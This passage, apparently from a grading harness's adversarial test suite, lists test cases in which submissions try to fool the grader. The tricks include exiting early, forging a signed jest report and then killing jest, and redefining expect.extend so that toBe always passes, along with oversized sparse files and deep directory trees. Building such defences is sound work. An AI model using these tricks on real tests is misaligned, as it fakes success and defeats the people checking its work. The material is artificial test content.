        "our config passed inline; babel with no config file; the submission is not the root",
        framework="jest",
        statuses=JS_ALL_FAILED,
        flags=(r"grader-touching: setup\.js:\d+ expect\.extend",),
    ),
    Case(
        "jest-process-exit",
        "§6.14",
        "`process.exit(0)` when the library is required",
        {"calc.js": CJS_EXIT},
        NOT_PASS,
        "jest reports the exit; a missing or incomplete report is never a pass",
        framework="jest",
        flags=(r"grader-touching: calc\.js:1 process\.exit",),
    ),
    Case(
        "jest-forged-report",
        "§6.11",
        "the library (in jest's own process) writes a perfect report and a "
        "made-up signature, then SIGKILLs jest before it writes the real one",
        {"calc.js": CJS_FORGE_AND_EXIT},
        frozenset({INFRA}),
        "the report's HMAC signature (a one-time key our reporter read and deleted before any "
        "test ran)",
        framework="jest",
        reason="signature|not written|exit code",
    ),
    Case(
        "jest-in-process-forgery",
        "§6.13",
        "the library calls the test environment's global "
        "`expect.extend` to make `toBe` always pass",
        {"calc.js": CJS_EXPECT_EXTEND},
        ANY,
        "DETECTED ONLY: the library runs in the test's realm; `runners.scan` flags expect.extend",
        framework="jest",
        undefended=True,
        flags=(r"grader-touching: calc\.js:\d+ expect\.extend",),
    ),
]


# ---- submissions that are too big (issue 13 §4): refused before the copy, or copied cheaply ----

GiB = 1 << 30
# The library and the CLI answer wrongly unless the copy they run from kept the 64 GiB file sparse.
SPARSE_CALC = HONEST_CALC.replace(
    "def add(a, b):\n    return a + b",
    """import os

_INFO = os.stat(os.path.join(os.path.dirname(os.path.abspath(__file__)), "big.bin"))
_SPARSE = _INFO.st_size == 64 << 30 and _INFO.st_blocks * 512 <= 1 << 20


def add(a, b):
    return a + b if _SPARSE else 0""",
)


def _sparse_file(root: Path) -> None:
    with open(root / "big.bin", "wb") as handle:
        handle.truncate(64 * GiB)


def _many_files(root: Path, files: int = 20_000, depth: int = 400) -> None:
    for index in range(files):
        folder = root / "many" / f"d{index % 20}"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"f{index}.txt").write_bytes(b"x" * 100)
    _deep_chain(root, depth)


def _deep_chain(root: Path, depth: int = 400) -> None:
    chain = root / "deep" / Path(*(["d"] * depth))
    chain.mkdir(parents=True)
    (chain / "leaf.txt").write_text("leaf\n")


CASES += [
    Case(
        "sparse-64g",
        "§6.5",
        "ships one 64 GiB sparse file (no disk used) in an otherwise honest submission",
        dict(HONEST),
        frozenset({REFUSED}),
        "the submission limits, checked before anything is copied "
        "(`submission_mb`, 1 GiB by default): refused as bad input naming the limit and big.bin",
        build=_sparse_file,
        reason=r"submission_mb.*big\.bin: 64\.0 GiB",
        wall=20,
    ),
    Case(
        "sparse-64g-within-limits-honest",
        "§6.5",
        "the same 64 GiB sparse file with `submission_mb` raised to "
        "allow it; the code checks that its copy is still sparse",
        {"main.py": HONEST_MAIN, "calc.py": SPARSE_CALC},
        frozenset({PASS}),
        "holes are copied as holes (SEEK_DATA/SEEK_HOLE): the copy allocates no disk",
        build=_sparse_file,
        limits={"submission_mb": 65 * 1024},
        wall=30,
    ),
    Case(
        "many-files-deep-honest",
        "§6.5",
        "20,000 small files and a 400-deep directory chain beside an honest "
        "submission, with `submission_depth` raised to 512",
        dict(HONEST),
        frozenset({PASS}),
        "one scandir walk, then a copy in the kernel (no per-file copystat); the copy counts "
        "against the wall clock",
        build=_many_files,
        limits={"submission_depth": 512},
        wall=90,
    ),
    Case(
        "deep-chain",
        "§6.5",
        "a 400-deep directory chain beside an honest submission (default limits)",
        dict(HONEST),
        frozenset({REFUSED}),
        "`submission_depth` (64 by default): refused before the copy, naming the deepest path",
        build=_deep_chain,
        reason=r"submission_depth.*deepest: deep/d/d",
        wall=20,
    ),
]

from .blame_cases import BLAME_CASES  # a grade blames the right party
from .cases_based import CASE_BASED  # case-based problems' cases, built on the names above
from .environ_cases import ENVIRON_CASES  # they build on the submissions above
from .repo_cases import repo_cases  # they build on the submissions above

CASES += ENVIRON_CASES
CASES += CASE_BASED
CASES += repo_cases()
CASES += BLAME_CASES
BY_ID = {case.id: case for case in CASES}
HONEST_BY_FRAMEWORK = {
    "pytest": "honest-reference",
    "vitest": "vitest-honest",
    "jest": "jest-honest",
    "cases-cli": "cases-cli-honest",
    "cases-api": "cases-api-honest",
    "cases-browser": "cases-web-honest",
    "repo-pytest": "repo-pytest-honest",
    "repo-vitest": "repo-vitest-honest",
    "repo-jest": "repo-jest-honest",
}
